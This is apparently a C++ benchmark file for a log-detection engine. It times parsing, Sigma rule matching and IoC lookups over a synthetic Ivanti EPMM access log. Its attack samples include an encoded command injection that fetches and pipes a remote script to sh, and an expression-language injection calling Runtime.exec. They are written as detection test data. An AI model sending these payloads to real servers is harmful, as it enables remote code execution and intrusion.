// Lines per second of the offline detection pipeline (parse, percent-decode, Sigma matching over
// Vectorscan, IoC lookups) over a generated EPMM access log with benign MDM traffic and exploit
// lines mixed in, with the bundled rules, SigmaHQ's web rules and 100,000 IoCs loaded. Printed
// beside plain line splitting, the floor any log reader pays.
//
//   detect_bench [--lines=N] [--varied] [google-benchmark flags]
//   detect_bench --lines=N --write=PREFIX   writes PREFIX.log (the generated log) and
//                                           PREFIX.iocs.csv (the 100,000 IoCs), then exits;
//                                           bench/compare_scan.sh feeds them to every tool.
//
// --varied: benign lines whose values rarely repeat where a real front end's would not either
// (signed app-download URLs, paging offsets, device OS versions, response sizes), so that the
// figures do not rest on the matcher remembering values it has seen.
//
// Attack lines come from 203.0.113.0/24 and benign lines from 10.0.0.0/8, so that a tool's
// output can be scored by source address alone.
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <map>
#include <memory>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "detect/correlation.h"
#include "detect/ioc.h"
#include "detect/log_parser.h"
#include "detect/sigma.h"

namespace rampart::detect {
namespace {

size_t g_lines = 1000000;
bool g_varied = false;
constexpr int64_t kNow = 1769760000000;

struct Corpus {
  std::string text;
  std::vector<bool> attack;  // per line
};

// Benign shapes outnumber attacks about 200:1, as on a busy EPMM front end.
Corpus Generate(size_t lines) {
  static const char* kBenign[] = {
      "\"POST /mifs/services/CheckinService HTTP/1.1\" 200 812 \"-\" \"MobileIron/12.1.0 "
      "(iPhone; iOS 17.2.1)\"",
      "\"GET /mifs/c/appstore/fob/3/17/sha256:kid=1,st=1769760000,h="
      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,et=1769763600/"
      "0f8fad5b-d9cb-469f-a165-70867728950e.ipa HTTP/1.1\" 200 48213377 \"-\" \"MobileIron/12.1 "
      "CFNetwork/1410.0.3 Darwin/22.6.0\"",
      "\"GET /mifs/admin/rest/api/v2/device?limit=50&offset=100&sortField=lastCheckin HTTP/1.1\" "
      "200 45123 \"https://mdm.example.eu/mifs/admin/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; "
      "x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\"",
      "\"GET /mifs/css/theme2.css HTTP/1.1\" 200 48213 \"https://mdm.example.eu/mifs/login.jsp\" "
      "\"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"",
      "\"GET /mifs/user/login.jsp HTTP/1.1\" 200 4312 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac "
      "OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15\"",
      "\"POST /mifs/c/windows/api/v1/device/registration HTTP/1.1\" 200 233 \"-\" "
      "\"Windows-Enrollment/10.0\"",
      "\"GET /mifs/images/logo.png?v=12.1 HTTP/1.1\" 304 - \"https://mdm.example.eu/mifs/\" "
      "\"Mozilla/5.0 (iPad; CPU OS 17_2 like Mac OS X) AppleWebKit/605.1.15\"",
  };
  static const char* kAttacks[] = {
      "\"GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60"
      "curl%20-s%20http%3A%2F%2F198.51.100.9%2Fx%7Csh%60%5D/0f8fad5b-d9cb-469f-a165-"
      "70867728950e.ipa HTTP/1.1\" 404 196 \"-\" \"python-requests/2.31.0\"",
      "\"GET /mifs/c/aftstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60"
      "id%60%5D/a.apk HTTP/1.1\" 404 196 \"-\" \"python-requests/2.31.0\"",
      "\"POST /mifs/403.jsp HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
      "Gecko/20100101 Firefox/128.0\"",
      "\"GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1 HTTP/1.1\" 200 5321 \"-\" "
      "\"python-requests/2.28.1\"",
      "\"GET /mifs/rs/api/v2/featureusage?format=%24%7B''.getClass().forName('java.lang.Runtime')"
      ".getMethod('getRuntime').invoke(null).exec('id')%7D HTTP/1.1\" 400 120 \"-\" \"-\"",
      "\"GET /mifs/css/mibasecss.css HTTP/1.1\" 200 18233127 \"-\" \"curl/8.5.0\"",
  };
  Corpus c;
  c.text.reserve(lines * 260);
  std::mt19937 rng(42);
  char prefix[128];
  char varied[512];
  for (size_t i = 0; i < lines; ++i) {
    bool attack = rng() % 200 == 0;
    unsigned a = rng();
    std::snprintf(prefix, sizeof(prefix),
                  "mdm.example.eu:443 %u.%u.%u.%u - - [30/Jan/2026:%02zu:%02zu:%02zu +0100] ",
                  attack ? 203u : 10u, attack ? 0u : (a >> 8) & 255,
                  attack ? 113u : (a >> 16) & 255, a & 255, (i / 3600) % 24, (i / 60) % 60, i % 60);
    c.text += prefix;
    if (!attack && g_varied) {
      unsigned shape = rng() % 4;
      unsigned a1 = rng(), a2 = rng(), a3 = rng(), a4 = rng();
      switch (shape) {
        case 0:  // a signed download: signature, times and file differ per request
          std::snprintf(varied, sizeof(varied),
                        "\"GET /mifs/c/appstore/fob/3/%u/sha256:kid=1,st=%u,h=%08x%08x%08x%08x,"
                        "et=%u/%08x-%04x-%04x-%04x-%08x%04x.ipa HTTP/1.1\" 200 %u \"-\" "
                        "\"MobileIron/12.%u CFNetwork/1410.0.%u Darwin/22.%u.0\"",
                        a1 % 40, 1769760000 + (a2 % 86400), a1, a2, a3, a4,
                        1769763600 + (a2 % 86400), a3, a4 & 0xffff, a1 & 0xffff, a2 & 0xffff, a4,
                        a3 & 0xffff, 1000000 + a4 % 90000000, a1 % 4, a2 % 8, a3 % 7);
          break;
        case 1:  // paging through the device list
          std::snprintf(varied, sizeof(varied),
                        "\"GET /mifs/admin/rest/api/v2/device?limit=50&offset=%u&sortField=%s "
                        "HTTP/1.1\" 200 %u \"https://mdm.example.eu/mifs/admin/\" \"Mozilla/5.0 "
                        "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "Chrome/%u.0.0.0 Safari/537.36\"",
                        (a1 % 400) * 50, a2 % 2 ? "lastCheckin" : "name", 20000 + a3 % 60000,
                        120 + a4 % 12);
          break;
        case 2:  // check-ins from devices on many OS versions
          std::snprintf(varied, sizeof(varied),
                        "\"POST /mifs/services/CheckinService HTTP/1.1\" 200 %u \"-\" "
                        "\"MobileIron/12.%u.%u (%s; %s %u.%u.%u)\"",
                        700 + a1 % 400, a2 % 4, a3 % 3, a4 % 3 ? "iPhone" : "Android",
                        a4 % 3 ? "iOS" : "Android", a4 % 3 ? 15 + a1 % 4 : 11 + a1 % 5, a2 % 7,
                        a3 % 4);
          break;
        default:
          std::snprintf(varied, sizeof(varied), "%s", kBenign[rng() % std::size(kBenign)]);
          break;
      }
      c.text += varied;
    } else {
      c.text +=
          attack ? kAttacks[rng() % std::size(kAttacks)] : kBenign[rng() % std::size(kBenign)];
    }
    c.text += '\n';
    c.attack.push_back(attack);
  }
  return c;
}

// 100,000 indicators of every indexed kind, none of which the generated traffic carries.
std::string IocCsv() {
  std::string csv;
  char line[96];
  for (int i = 0; i < 100000; ++i) {
    int k = i / 4;
    switch (i % 4) {
      case 0:
        std::snprintf(line, sizeof(line), "ip,198.18.%d.%d\n", k >> 8, k & 255);
        break;
      case 1:
        std::snprintf(line, sizeof(line), "ip,2001:db8:%x::/64\n", k);
        break;
      case 2:
        std::snprintf(line, sizeof(line), "domain,host%d.bad.example\n", k);
        break;
      default:
        std::snprintf(line, sizeof(line), "url,http://u%d.example/p\n", k);
        break;
    }
    csv += line;
  }
  return csv;
}

struct Engine {
  std::unique_ptr<RuleSet> rules;
  IocStore iocs;
};

Engine& TheEngine() {
  static Engine* engine = [] {
    auto* e = new Engine();
    RuleSetBuilder b;
    (void)b.AddDirectory(RAMPART_SOURCE_DIR "/rules/sigma");
    (void)b.AddDirectory(RAMPART_SOURCE_DIR "/../shared/sigma");
    auto r = b.Build();
    if (!r.ok()) {
      std::fprintf(stderr, "rules: %s\n", r.status().ToString().c_str());
      std::exit(1);
    }
    e->rules = std::move(r).value();
    std::string csv = IocCsv();
    (void)ImportCsv(csv, "bench", kNow, &e->iocs);
    std::fprintf(stderr, "loaded %zu rules (%zu skipped), %zu IoCs, %zu Vectorscan matchers\n",
                 e->rules->size(), e->rules->skipped().size(), e->iocs.size(),
                 e->rules->vectorscan_matchers());
    return e;
  }();
  return *engine;
}

const Corpus& TheCorpus() {
  static const Corpus* c = new Corpus(Generate(g_lines));
  return *c;
}

template <typename F>
void ForEachLine(std::string_view text, F&& f) {
  const char* p = text.data();
  const char* end = p + text.size();
  while (p < end) {
    const char* nl = static_cast<const char*>(std::memchr(p, '\n', end - p));
    if (nl == nullptr) nl = end;
    f(std::string_view(p, nl - p));
    p = nl + 1;
  }
}

struct PassResult {
  size_t lines = 0, flagged_attack = 0, flagged_benign = 0, alerts = 0, full_scans = 0;
};

// mode 0: split only; 1: + parse; 2: + Sigma; 3: + IoCs.
PassResult Pass(int mode) {
  const Corpus& c = TheCorpus();
  Engine& e = TheEngine();
  RuleMatcher matcher(*e.rules);
  LineParser parser(LogFormat::kEpmm);
  Event ev;
  std::vector<uint32_t> hits;
  std::vector<IocMatch> ioc_hits;
  PassResult r;
  ForEachLine(c.text, [&](std::string_view line) {
    size_t i = r.lines++;
    if (mode == 0) {
      benchmark::DoNotOptimize(line.data());
      return;
    }
    if (!parser.Parse(line, &ev)) return;
    if (mode == 1) return;
    matcher.Match(ev, &hits);
    size_t n = hits.size();
    if (mode == 3) {
      e.iocs.MatchEvent(ev, kNow, &ioc_hits);
      n += ioc_hits.size();
    }
    r.alerts += n;
    if (n > 0) ++(c.attack[i] ? r.flagged_attack : r.flagged_benign);
  });
  r.full_scans = matcher.full_scans();
  return r;
}

void BM_Split(benchmark::State& state) {
  for (auto _ : state) benchmark::DoNotOptimize(Pass(0));
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
}
void BM_Parse(benchmark::State& state) {
  for (auto _ : state) benchmark::DoNotOptimize(Pass(1));
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
}
void BM_ParseSigma(benchmark::State& state) {
  for (auto _ : state) benchmark::DoNotOptimize(Pass(2));
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
}
void BM_ParseSigmaIocs(benchmark::State& state) {
  for (auto _ : state) benchmark::DoNotOptimize(Pass(3));
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
}
// The live engine's checkpoint of its correlation windows (DATA/detect/correlations.json),
// written on the engine thread: N addresses each half way through the bundled enumeration rule
// (value_count of 404'd ids, gte 10, six hours), five ids each. Printed beside what the stall
// means: the share of the event queue (65,536) that 10,000 requests/s fill meanwhile.
CorrelationTracker& EnumerationWindows(size_t keys) {
  static std::map<size_t, std::unique_ptr<CorrelationTracker>> trackers;
  auto& tracker = trackers[keys];
  if (tracker) return *tracker;
  auto rule = ParseCorrelationRule(
      "title: Enumeration\nid: 6c7d8e9f-0a1b-4c2d-8e3f-4a5b6c7d8e9f\ncorrelation:\n"
      "  type: value_count\n  rules: [rampart_id_not_found]\n  group-by: [source.ip]\n"
      "  timespan: 6h\n  condition: {field: url.path, gte: 10}\n",
      "bench");
  if (!rule.ok()) std::abort();
  std::vector<CorrelationRule> rules;
  rules.push_back(std::move(rule).value());
  tracker = std::make_unique<CorrelationTracker>(std::move(rules), keys);
  Event ev;
  std::vector<CorrelationHit> hits;
  char ip[32], path[64];
  for (size_t k = 0; k < keys; ++k) {
    std::snprintf(ip, sizeof(ip), "10.%zu.%zu.%zu", (k >> 16) & 255, (k >> 8) & 255, k & 255);
    for (int id = 0; id < 5; ++id) {
      std::snprintf(path, sizeof(path), "/api/v1/devices/dev_%zu_%d", k, id);
      ev.SetCopy(Field::kSourceIp, ip);
      ev.SetCopy(Field::kUrlPath, path);
      ev.set_timestamp_millis(kNow + id * 600000);
      tracker->OnMatch(0, 0, ev, kNow + id * 600000, &hits);
    }
  }
  return *tracker;
}

void BM_CheckpointCorrelationWindows(benchmark::State& state) {
  CorrelationTracker& tracker = EnumerationWindows(static_cast<size_t>(state.range(0)));
  size_t bytes = 0;
  double seconds = 0;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    std::string saved = tracker.SaveWindows();
    benchmark::DoNotOptimize(saved.data());
    seconds += std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    bytes = saved.size();
  }
  state.counters["bytes"] = static_cast<double>(bytes);
  // The events 10,000 requests/s queue during one save, in percent of the queue's 65,536.
  const double per_save = seconds / static_cast<double>(state.iterations());
  state.counters["queue_pct_at_10k_rps"] = per_save * 10000.0 / 65536.0 * 100.0;
}

// As a live engine's checkpoints save: into the buffer the previous one filled.
void BM_CheckpointCorrelationWindowsIntoKeptBuffer(benchmark::State& state) {
  CorrelationTracker& tracker = EnumerationWindows(static_cast<size_t>(state.range(0)));
  std::string saved;
  tracker.SaveWindowsInto(&saved);
  double seconds = 0;
  for (auto _ : state) {
    const auto start = std::chrono::steady_clock::now();
    tracker.SaveWindowsInto(&saved);
    benchmark::DoNotOptimize(saved.data());
    seconds += std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  }
  state.counters["bytes"] = static_cast<double>(saved.size());
  const double per_save = seconds / static_cast<double>(state.iterations());
  state.counters["queue_pct_at_10k_rps"] = per_save * 10000.0 / 65536.0 * 100.0;
}

void BM_RestoreCorrelationWindows(benchmark::State& state) {
  const size_t keys = static_cast<size_t>(state.range(0));
  const std::string saved = EnumerationWindows(keys).SaveWindows();
  CorrelationTracker target(EnumerationWindows(keys).rules(), keys);
  for (auto _ : state) {
    auto taken = target.RestoreWindows(saved);
    if (!taken.ok() || taken->keys != keys) std::abort();
  }
}

BENCHMARK(BM_Split)->Unit(benchmark::kMillisecond);
BENCHMARK(BM_Parse)->Unit(benchmark::kMillisecond);
BENCHMARK(BM_ParseSigma)->Unit(benchmark::kMillisecond);
BENCHMARK(BM_ParseSigmaIocs)->Unit(benchmark::kMillisecond);
BENCHMARK(BM_CheckpointCorrelationWindows)
    ->Arg(1000)
    ->Arg(10000)
    ->Arg(100000)
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_CheckpointCorrelationWindowsIntoKeptBuffer)
    ->Arg(1000)
    ->Arg(10000)
    ->Arg(100000)
    ->Unit(benchmark::kMillisecond);
BENCHMARK(BM_RestoreCorrelationWindows)
    ->Arg(1000)
    ->Arg(10000)
    ->Arg(100000)
    ->Unit(benchmark::kMillisecond);

double Seconds(int mode, PassResult* out) {
  auto start = std::chrono::steady_clock::now();
  *out = Pass(mode);
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

}  // namespace
}  // namespace rampart::detect

int main(int argc, char** argv) {
  using namespace rampart::detect;
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--lines=", 8) == 0)
      g_lines = std::strtoull(argv[i] + 8, nullptr, 10);
    if (std::strcmp(argv[i], "--varied") == 0) g_varied = true;
  }
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--write=", 8) != 0) continue;
    std::string prefix = argv[i] + 8;
    const Corpus& c = TheCorpus();
    std::string csv = IocCsv();
    for (auto [suffix, text] : {std::pair<const char*, const std::string*>{".log", &c.text},
                                std::pair<const char*, const std::string*>{".iocs.csv", &csv}}) {
      std::FILE* f = std::fopen((prefix + suffix).c_str(), "wb");
      if (f == nullptr || std::fwrite(text->data(), 1, text->size(), f) != text->size() ||
          std::fclose(f) != 0) {
        std::fprintf(stderr, "cannot write %s%s\n", prefix.c_str(), suffix);
        return 1;
      }
    }
    return 0;
  }
  benchmark::Initialize(&argc, argv);
  TheEngine();
  const Corpus& c = TheCorpus();
  size_t attacks = 0;
  for (bool a : c.attack) attacks += a;
  PassResult base, full;
  double t0 = Seconds(0, &base);
  double t3 = Seconds(3, &full);
  double base_rate = static_cast<double>(base.lines) / t0;
  double rate = static_cast<double>(full.lines) / t3;
  std::printf(
      "summary: %zu lines (%zu attack lines); split %.0f lines/s; full pipeline %.0f lines/s "
      "(%.1fx the cost of splitting); attack lines flagged %zu/%zu, benign lines flagged %zu; "
      "%zu lines needed the per-field scans\n",
      full.lines, attacks, base_rate, rate, base_rate / rate, full.flagged_attack, attacks,
      full.flagged_benign, full.full_scans);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
